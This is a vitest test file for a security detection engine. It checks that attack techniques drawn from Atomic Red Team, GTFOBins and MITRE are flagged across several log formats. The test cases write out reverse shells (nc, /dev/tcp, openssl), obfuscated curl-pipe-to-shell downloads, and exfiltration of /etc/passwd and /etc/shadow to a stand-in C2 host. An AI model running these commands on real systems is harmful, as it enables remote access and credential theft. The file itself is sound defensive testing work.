// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the cases are shell text, where ${IFS} is literal.
import { describe, expect, it } from "vitest";
import { mentionsNetworkUtility } from "../../src/detection/prefilter.js";
import { CHANNEL_RULE, RULE, type Severity, type SourceFormat } from "../../src/model.js";
import { atLeast } from "../../src/severity.js";
import { type Exec, messagesOf, type Technique, verdictOf } from "./formats.js";

/**
 * Techniques from public catalogues (Atomic Red Team test ids, GTFOBins entries, MITRE ids), each as
 * the five formats log it (see formats.ts). Every case must end in a verdict, never in an error.
 */
interface Case {
  name: string;
  technique: Technique;
  severity: Severity;
  reason: RegExp;
  rule?: typeof RULE.id | typeof CHANNEL_RULE.id;
  /** Formats that cannot show the evidence (Tetragon has no comm), left out with this reason. */
  only?: SourceFormat[];
}

const C2 = "203.0.113.5";
const sh = (payload: string, grandparent?: string): Pick<Exec, "parent" | "grandparent"> => ({
  parent: { path: "/bin/sh", args: ["-c", payload] },
  ...(grandparent !== undefined ? { grandparent } : {}),
});
/** A utility run by a `sh -c` payload, as the process tree and as an exec session show it. */
function viaShell(path: string, args: string[], payload: string, grandparent?: string): Technique {
  return { exec: { path, args, ...sh(payload, grandparent) }, session: ["sh", "-c", payload] };
}

const B64_STAGE = "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUveC5zaCB8IHNo"; // curl -s http://203.0.113.5/x.sh | sh

const CASES: Case[] = [
  {
    name: "Atomic T1105 #6 sftp remote file copy (pull) into /tmp (ECS Exec, process tree)",
    technique: viaShell(
      "/usr/bin/sftp",
      [`adversary@${C2}:/tmp/adversary-sftp`, "/tmp/victim-files"],
      `sftp adversary@${C2}:/tmp/adversary-sftp /tmp/victim-files`,
    ),
    severity: "high",
    reason: /sftp downloads into a writable location \(\/tmp\)/,
  },
  {
    name: "Atomic T1105 #5 sftp remote file copy (push) with a here-string",
    technique: { session: ["sh", "-c", `sftp adversary@${C2}:/tmp/ <<< $'put /etc/passwd'`] },
    severity: "high",
    reason: /sftp uploads a file \(put \/etc\/passwd\)/,
  },
  {
    name: "Atomic T1105 #4 scp remote file copy (pull) ends in a verdict",
    technique: viaShell(
      "/usr/bin/scp",
      [`adversary@${C2}:/tmp/adversary-scp`, "/tmp/victim-files/"],
      `scp adversary@${C2}:/tmp/adversary-scp /tmp/victim-files/`,
    ),
    severity: "high",
    reason: /scp downloads into a writable location/,
  },
  {
    name: "Atomic T1105 #3 scp remote file copy (push) ends in a verdict",
    technique: viaShell(
      "/usr/bin/scp",
      ["/etc/passwd", `adversary@${C2}:/tmp/victim-files/`],
      `scp /etc/passwd adversary@${C2}:/tmp/victim-files/`,
    ),
    severity: "high",
    reason: /scp copies local files to a remote host/,
  },
  {
    name: "GTFOBins scp shell through -o ProxyCommand",
    technique: viaShell(
      "/usr/bin/scp",
      ["-o", "ProxyCommand=;sh 0<&2 1>&2", "x", "x:"],
      "scp -o 'ProxyCommand=;sh 0<&2 1>&2' x x:",
    ),
    severity: "critical",
    reason: /scp executes a command or shell \(-o ProxyCommand=;sh/,
  },
  {
    name: "GTFOBins scp shell through -S",
    technique: viaShell("/usr/bin/scp", ["-S", "/tmp/.s/x.sh", "x", "y:"], "scp -S /tmp/.s/x.sh x y:"),
    severity: "critical",
    reason: /scp executes a command or shell \(-S \/tmp\/\.s\/x\.sh\)/,
  },
  {
    name: "MITRE T1048.003 dig with a base64 label seen only in the parent's command line",
    technique: viaShell(
      "/usr/bin/dig",
      ["+short", "cm9vdDp4OjA6.evil.example"],
      "dig +short $(head -c 9 /etc/passwd | base64).evil.example",
    ),
    severity: "high",
    reason: /dig queries a name that looks like DNS exfiltration \(a label built from command output\)/,
  },
  {
    name: "GTFOBins wget --use-askpass runs a program dropped in /tmp",
    technique: viaShell(
      "/usr/bin/wget",
      ["--use-askpass=/tmp/.x/askpass", `http://${C2}/`],
      `wget --use-askpass=/tmp/.x/askpass http://${C2}/`,
    ),
    severity: "critical",
    reason: /wget executes a command or shell \(--use-askpass=\/tmp\/\.x\/askpass\)/,
  },
  {
    name: "GTFOBins socat file-download through open:FILE,creat",
    technique: viaShell(
      "/usr/bin/socat",
      ["-u", `tcp-connect:${C2}:8080`, "open:/tmp/payload,creat"],
      `socat -u tcp-connect:${C2}:8080 open:/tmp/payload,creat`,
    ),
    severity: "high",
    reason: /socat writes what it receives into a writable location \(\/tmp\): \/tmp\/payload/,
  },
  {
    name: "GTFOBins socat file-upload through file:FILE",
    technique: viaShell(
      "/usr/bin/socat",
      ["-u", "file:/etc/shadow", `tcp-connect:${C2}:8080`],
      `socat -u file:/etc/shadow tcp-connect:${C2}:8080`,
    ),
    severity: "high",
    reason: /socat sends a file \(\/etc\/shadow\)/,
  },
  {
    name: "MITRE T1059.004 OpenBSD nc fifo reverse shell from php-fpm",
    technique: {
      exec: {
        path: "/bin/nc.openbsd",
        comm: "nc",
        args: [C2, "4444"],
        ...sh(
          `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${C2} 4444 > /tmp/f`,
          "/usr/sbin/php-fpm8.2",
        ),
      },
      session: [
        "sh",
        "-c",
        `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${C2} 4444 > /tmp/f`,
      ],
    },
    severity: "critical",
    reason: /relays an interactive shell \(\/bin\/sh -i \| nc/,
  },
  {
    name: "MITRE T1027.010 ${IFS} in place of spaces",
    technique: viaShell(
      "/usr/bin/curl",
      ["-s", `http://${C2}/x.sh`],
      `curl\${IFS}-s\${IFS}http://${C2}/x.sh|sh`,
    ),
    severity: "critical",
    reason: /curl download is piped to a shell \(sh\)/,
  },
  {
    name: "MITRE T1027.010 $@ inserted into the command name",
    technique: viaShell("/usr/bin/curl", ["-s", `http://${C2}/x.sh`], `c$@url -s http://${C2}/x.sh | s$@h`),
    severity: "critical",
    reason: /curl download is piped to a shell \(sh\)/,
  },
  {
    name: "MITRE T1027.010 empty $() inserted into the command name",
    technique: viaShell(
      "/usr/bin/wget",
      ["-qO-", `http://${C2}/x.sh`],
      `w$()get -qO- http://${C2}/x.sh | sh`,
    ),
    severity: "critical",
    reason: /wget download is piped to a shell \(sh\)/,
  },
  {
    name: "MITRE T1027.010 glob path /???/???/c?rl",
    technique: viaShell(
      "/usr/bin/curl",
      ["-s", `http://${C2}/x.sh`],
      `/???/???/c?rl -s http://${C2}/x.sh | sh`,
    ),
    severity: "critical",
    reason: /curl download is piped to a shell \(sh\)/,
  },
  {
    name: "MITRE T1140 a base64 -d | sh stage",
    technique: viaShell("/usr/bin/curl", ["-s", `http://${C2}/x.sh`], `echo ${B64_STAGE} | base64 -d | sh`),
    severity: "critical",
    reason: /curl download is piped to a shell \(sh\)/,
  },
  {
    name: "MITRE T1609 kubelet /run API called by curl (port 10250)",
    technique: viaShell(
      "/usr/bin/curl",
      [
        "-sk",
        "-X",
        "POST",
        "https://10.0.1.5:10250/run/kube-system/kube-proxy-x7k2p/kube-proxy",
        "-d",
        "cmd=id",
      ],
      "curl -sk -X POST https://10.0.1.5:10250/run/kube-system/kube-proxy-x7k2p/kube-proxy -d cmd=id",
    ),
    severity: "critical",
    reason: /curl runs a command through the kubelet API/,
  },
  {
    name: "MITRE T1036.003 curl copied to /tmp/firewire (argument shape)",
    technique: {
      exec: {
        path: "/tmp/firewire",
        args: ["-fsSL", `http://${C2}/x`],
        ...sh(`/tmp/firewire -fsSL http://${C2}/x`),
      },
    },
    severity: "high",
    reason: /curl renamed to firewire, going by its arguments \(-fsSL http:\/\/203\.0\.113\.5\/x\)/,
  },
  {
    name: "MITRE T1036.003 curl linked as firewire (Falco proc.name, Datadog comm)",
    technique: {
      exec: {
        path: "/usr/bin/curl",
        comm: "firewire",
        args: ["-s", `http://${C2}/x`],
        ...sh(`/tmp/firewire -s http://${C2}/x`),
      },
    },
    only: ["falco", "datadog"],
    severity: "high",
    reason: /^curl renamed to firewire$/,
  },
  {
    name: "GTFOBins bash reverse shell through /dev/tcp",
    technique: {
      exec: {
        path: "/bin/bash",
        args: ["-c", `bash -i >& /dev/tcp/${C2}/4444 0>&1`],
        ...sh("x", "/usr/sbin/php-fpm8.2"),
      },
      session: ["bash", "-c", `bash -i >& /dev/tcp/${C2}/4444 0>&1`],
    },
    rule: CHANNEL_RULE.id,
    severity: "critical",
    reason: /a reverse shell over \/dev\/tcp/,
  },
  {
    name: "GTFOBins bash file-upload through /dev/tcp",
    technique: {
      exec: { path: "/bin/bash", args: ["-c", `cat /etc/passwd > /dev/tcp/${C2}/80`], ...sh("x") },
      session: ["bash", "-c", `cat /etc/passwd > /dev/tcp/${C2}/80`],
    },
    rule: CHANNEL_RULE.id,
    severity: "high",
    reason: /sends data over a network connection \(cat \/etc\/passwd > \/dev\/tcp/,
  },
  {
    name: "GTFOBins openssl reverse shell through s_client",
    technique: viaShell(
      "/usr/bin/openssl",
      ["s_client", "-quiet", "-connect", `${C2}:4444`],
      `mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect ${C2}:4444 > /tmp/s; rm /tmp/s`,
    ),
    rule: CHANNEL_RULE.id,
    severity: "critical",
    reason: /openssl s_client carries an interactive shell/,
  },
  {
    name: "MITRE T1572 chisel reverse SOCKS tunnel from /tmp",
    technique: viaShell(
      "/tmp/chisel",
      ["client", `${C2}:8000`, "R:socks"],
      `/tmp/chisel client ${C2}:8000 R:socks`,
    ),
    rule: CHANNEL_RULE.id,
    severity: "critical",
    reason: /chisel \(tunnel tool\) carries traffic from outside into the network/,
  },
];

describe("techniques from public catalogues, in every format that can carry them", () => {
  const rows = CASES.flatMap((c) =>
    messagesOf(c.technique)
      .filter(([format]) => c.only === undefined || c.only.includes(format))
      .map(([format, message]) => [`${c.name} [${format}]`, c, format, message] as const),
  );
  it.each(rows)("%s", (_label, c, format, message) => {
    // Act
    const verdict = verdictOf(message, format);
    // Assess
    expect(mentionsNetworkUtility(message)).toBe(true);
    expect(verdict.kind, JSON.stringify(verdict)).toBe("finding");
    if (verdict.kind !== "finding") return;
    const { finding } = verdict;
    expect((finding.rule ?? RULE).id).toBe(c.rule ?? RULE.id);
    expect(atLeast(finding.severity, c.severity), finding.reasons.join(" | ")).toBe(true);
    expect(
      finding.reasons.some((r) => c.reason.test(r)),
      finding.reasons.join(" | "),
    ).toBe(true);
    expect(finding.reasons.join(" ")).not.toMatch(/could not be analysed/);
  });
});

describe("the channel family's benign cases and switches", () => {
  const benign: [string, Technique, RegExp][] = [
    [
      "wait-for-it-style port check through /dev/tcp",
      { session: ["timeout", "1", "bash", "-c", "cat < /dev/null > /dev/tcp/db/5432"] },
      /a port check/,
    ],
    [
      "a certificate check with openssl s_client",
      viaShell(
        "/usr/bin/openssl",
        ["s_client", "-connect", "example.com:443", "-servername", "example.com"],
        "openssl s_client -connect example.com:443 -servername example.com < /dev/null | openssl x509 -noout -dates",
      ),
      /a TLS check of example\.com:443/,
    ],
    [
      "chisel asked for its version",
      viaShell("/usr/local/bin/chisel", ["--version"], "chisel --version"),
      /version/,
    ],
  ];
  const rows = benign.flatMap(([name, technique, why]) =>
    messagesOf(technique).map(([format, message]) => [`${name} [${format}]`, format, message, why] as const),
  );
  it.each(rows)("%s is benign", (_label, format, message, why) => {
    const verdict = verdictOf(message, format);
    expect(verdict.kind).toBe("benign");
    if (verdict.kind === "benign") expect(verdict.why).toMatch(why);
  });

  const quickTunnel = viaShell(
    "/usr/local/bin/cloudflared",
    ["tunnel", "--url", "http://localhost:8080"],
    "cloudflared tunnel --url http://localhost:8080",
  );
  it.each(messagesOf(quickTunnel))(
    "cloudflared quick tunnels are seen only with saas-tunnel on [%s]",
    (format, message) => {
      expect(verdictOf(message, format).kind).toBe("none");
      const on = verdictOf(message, format, { channels: new Set(["saas-tunnel"]) });
      expect(on.kind === "finding" && on.finding.severity).toBe("high");
    },
  );

  it.each(
    messagesOf(
      viaShell(
        "/bin/bash",
        ["-c", `bash -i >& /dev/tcp/${C2}/4444 0>&1`],
        `bash -i >& /dev/tcp/${C2}/4444 0>&1`,
      ),
    ),
  )("CHANNEL_FAMILIES=none turns the family off [%s]", (format, message) => {
    expect(verdictOf(message, format, { channels: new Set() }).kind).not.toBe("finding");
  });
});
